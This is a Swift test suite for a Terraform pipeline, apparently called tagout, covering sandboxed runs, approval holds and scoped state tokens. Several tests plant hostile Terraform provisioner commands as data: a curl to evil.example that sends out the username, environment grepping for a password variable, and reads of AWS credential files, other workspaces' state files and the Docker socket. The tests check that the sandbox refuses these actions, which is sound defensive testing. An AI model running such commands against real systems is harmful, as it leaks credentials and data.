import Formats
import Host
import Service
import TestSupport
import Testing
import Vocabulary

@Suite(.enabled(if: Sandboxes.work && SSHKeys.isInstalled)) struct SandboxPipelineTests {
  /// The records of a kind.
  private func records(_ kind: String, _ pipeline: Pipeline) async throws -> [StructuredValue] {
    let core = try await ServerCore.open(pipeline.server.data)
    let lines = try await core.store.read { try $0.ledgerLines(from: 0, limit: 10_000) }
    return try lines.map { try JSONReader.read($0) }.filter { $0["kind"]?.text == kind }
  }

  @Test(
    "In production code of the plan's own waits for people, who read it word for word; then it runs in the sandbox",
    .enabled(if: RunnerUnderTest.hasTerraform))
  func story() async throws {
    let runner = try await PipelineRunner()
    let pipeline = runner.pipeline
    let command = "echo made; curl -sS --max-time 5 https://evil.example/$(whoami) || true; env | grep ^TF_HTTP_PASS"
    let id = try await runner.propose(
      """
      resource "terraform_data" "shop" {
        provisioner "local-exec" { command = "\(command)" }
      }
      """)
    #expect(try await runner.once(["--sandboxed"]) == 0, "\(runner.words)")
    let shown = try await pipeline.show(id)
    #expect(shown["state"] == "held", "\(runner.words)")
    let findings = shown["assessment"]?["findings"]?.elements ?? []
    let code = findings.first { $0["code"] == "plan.apply-time-code" }
    #expect(code?["message"]?.text?.contains(command) == true, "\(findings)")
    for member in [pipeline.grace, pipeline.edsger] {
      let answer = try await pipeline.approve(id, by: member)
      try #require(answer.status == 200, "\(answer.text)")
    }
    #expect(try await runner.once(["--sandboxed"]) == 0, "\(runner.words)")
    #expect(try await pipeline.state(of: id) == "applied", "\(runner.words)")
    let runs = try await pipeline.show(id)["runs"]?.elements ?? []
    #expect(runs.map { $0["sandbox"]?.text } == ["bubblewrap", "bubblewrap"])
    let refused = try await records("run.reach-refused", pipeline)
    #expect(refused.map { $0["details"]?["host"]?.text } == ["evil.example"])
    #expect(refused.first?["details"]?["proposal"]?.text == id)
    for kind in ["proposal.planning", "run.leased", "run.begun", "run.finished"] {
      #expect(try await records(kind, pipeline).first?["details"]?["sandbox"] == "bubblewrap", "\(kind)")
    }
    let log = try await pipeline.server.send("GET", "/api/v1/proposals/\(id)/log", token: pipeline.reader)
    #expect(log.text.contains("(local-exec): made"), "\(log.text)")
    #expect(log.text.contains("refused to let it reach evil.example:443"), "\(log.text)")
    #expect(!log.text.contains("tagout_"), "\(log.text)")
  }

  @Test(
    "Terraform itself, told by a configuration to read secrets, finds none at plan and at apply, and each try is a record",
    .enabled(if: RunnerUnderTest.hasTerraform))
  func secrets() async throws {
    let runner = try await PipelineRunner()
    let pipeline = runner.pipeline
    let folder = runner.folder.path
    for (path, text) in [
      ("apply.env", "WRITE_SECRET=wr1te-s3cret\n"), ("home/.aws/credentials", "at-h0me\n"),
      ("one/kept/p-2-7-errored.tfstate", "0ther-w0rkspace\n"),
      ("home/.local/state/tagout/ledger/decisions", "rec0rd\n"),
    ] {
      try AtomicFile.makeFolders(
        String((folder + "/" + path).prefix(upTo: try #require((folder + "/" + path).lastIndex(of: "/")))))
      try AtomicFile.write(Array(text.utf8), to: folder + "/" + path)
    }
    let places = [
      folder + "/apply.env", folder + "/home/.aws/credentials", folder + "/one/kept/p-2-7-errored.tfstate",
      folder + "/home/.local/state/tagout/ledger/decisions", folder + "/token",
    ]
    let reads = places.enumerated().map { "\($0) = try(file(\"\($1)\"), \"none\")" }.joined(separator: "\n    ")
    let id = try await runner.propose(
      """
      locals {
        found = {
          \(reads)
        }
      }
      output "found" { value = [for place, text in local.found : "${place}<${text}>"] }
      resource "terraform_data" "shop" {
        input = local.found
        provisioner "local-exec" {
          command = "cat \(places.joined(separator: " ")); test -z $WRITE_SECRET$MORE_SECRET && echo no secret; curl -sS --noproxy '*' --unix-socket /run/docker.sock http://x/info || true"
        }
      }
      """)
    let options = [
      "--sandboxed", "--environment-apply", folder + "/apply.env", "--secrets-apply", "echo MORE_SECRET=m0re-s3cret",
    ]
    let home = ["HOME": folder + "/home"]
    #expect(try await runner.once(options, variables: home) == 0, "\(runner.words)")
    let atPlan = try await records("run.read-refused", pipeline)
    #expect(Set(atPlan.compactMap { $0["details"]?["path"]?.text }) == Set(places), "\(runner.words)")
    #expect(atPlan.allSatisfy { $0["details"]?["kind"] == "plan" && $0["details"]?["proposal"]?.text == id })
    for member in [pipeline.grace, pipeline.edsger] {
      let answer = try await pipeline.approve(id, by: member)
      try #require(answer.status == 200, "\(answer.text)")
    }
    #expect(try await runner.once(options, variables: home) == 0, "\(runner.words)")
    #expect(try await pipeline.state(of: id) == "applied", "\(runner.words)")
    let atApply = try await records("run.read-refused", pipeline).filter { $0["details"]?["kind"] == "apply" }
    #expect(
      Set(atApply.compactMap { $0["details"]?["path"]?.text }) == Set(places + ["/run/docker.sock"]), "\(runner.words)")
    let log = try await pipeline.server.send("GET", "/api/v1/proposals/\(id)/log", token: pipeline.reader).text
    #expect(log.contains("(local-exec): no secret") && log.contains("0<>"), "\(log)")
    for secret in ["wr1te-s3cret", "m0re-s3cret", "at-h0me", "0ther-w0rkspace", "rec0rd", "tagout_"] {
      #expect(!log.contains(secret), "\(secret): \(log)")
    }
  }

  @Test(
    "A run's token opens its workspace's state while its lease lasts, reads it only while planning, and nothing else")
  func stateToken() async throws {
    let pipeline = try await Pipeline()
    let id = try await pipeline.propose()
    let lease = try await pipeline.lease("plan")
    let fencing = try #require(lease.object["fencing"]?.whole)
    let token = try #require(lease.object["stateToken"]?.text)
    let server = pipeline.server
    #expect(try await server.send("GET", "/state/shop", token: token).status == 204)
    let lock: StructuredValue = .object(["ID": "1", "Operation": "OperationTypePlan", "Who": "test"])
    #expect(try await server.send("LOCK", "/state/shop", token: token, json: lock).status == 200)
    #expect(try await server.send("POST", "/state/shop?ID=1", token: token, body: Array("{}".utf8)).status == 403)
    for (method, path) in [
      ("GET", "/state/other"), ("GET", "/api/v1/proposals"), ("GET", "/api/v1/proposals/\(id)"),
      ("POST", "/api/v1/runner/leases"), ("GET", "/api/v1/workspaces/shop/state"), ("GET", "/metrics"),
      ("POST", "/api/v1/runner/leases/\(fencing)/renewal"),
    ] {
      let answer = try await server.send(method, path, token: token, body: method == "POST" ? Array("{}".utf8) : nil)
      #expect(answer.status == 403 && answer.code == "token.state-only", "\(method) \(path): \(answer.text)")
    }
    let failed = try await server.send(
      "POST", "/api/v1/runner/leases/\(fencing)/planned", token: pipeline.runner, json: .object(["error": "no"]))
    #expect(failed.status == 200, "\(failed.text)")
    #expect(try await server.send("GET", "/state/shop", token: token).status == 401)
  }

  @Test("The token of an apply writes the state within its run, and not after it")
  func applyToken() async throws {
    let pipeline = try await Pipeline()
    _ = try await pipeline.approved()
    let lease = try await pipeline.lease("apply")
    let fencing = try #require(lease.object["fencing"]?.whole)
    let token = try #require(lease.object["stateToken"]?.text)
    #expect(lease.object["runsCode"] == false)
    let server = pipeline.server
    let lock: StructuredValue = .object(["ID": "1", "Operation": "OperationTypeApply", "Who": "test"])
    // Not before the server has said that it may begin.
    #expect(try await server.send("LOCK", "/state/shop", token: token, json: lock).status != 200)
    let begun = try await server.send(
      "POST", "/api/v1/runner/leases/\(fencing)/applying", token: pipeline.runner, json: .object(Pipeline.facts))
    #expect(begun.status == 200, "\(begun.text)")
    #expect(try await server.send("LOCK", "/state/shop", token: token, json: lock).status == 200)
    let state = #"{"version":4,"terraform_version":"1.11.4","serial":1,"lineage":"l-1","outputs":{},"resources":[]}"#
    let written = try await server.send("POST", "/state/shop?ID=1", token: token, body: Array(state.utf8))
    #expect(written.status == 200, "\(written.text)")
    #expect(try await server.send("UNLOCK", "/state/shop", token: token, json: lock).status == 200)
    #expect(try await pipeline.finish(fencing).status == 200)
    #expect(try await server.send("GET", "/state/shop", token: token).status == 401)
  }

  @Test("Killed while it records what was refused, the server has it or is told again, and goes on")
  func killed() async throws {
    for point in ["reachRefused.before-commit", "reachRefused.after-commit"] {
      let pipeline = try await Pipeline(variables: ["TAGOUT_CRASH_AT": point])
      _ = try await pipeline.propose()
      let fencing = try #require(try await pipeline.lease("plan").object["fencing"]?.whole)
      let path = "/api/v1/runner/leases/\(fencing)/refusals"
      let body: StructuredValue = .object(["places": [.object(["host": "evil.example", "port": 443])]])
      await #expect(throws: (any Error).self) {
        try await pipeline.server.send("POST", path, token: pipeline.runner, json: body)
      }
      try pipeline.server.restart()
      #expect(try await records("run.reach-refused", pipeline).count == (point.contains("after") ? 1 : 0))
      #expect(try await pipeline.server.send("POST", path, token: pipeline.runner, json: body).status == 200)
    }
  }
}
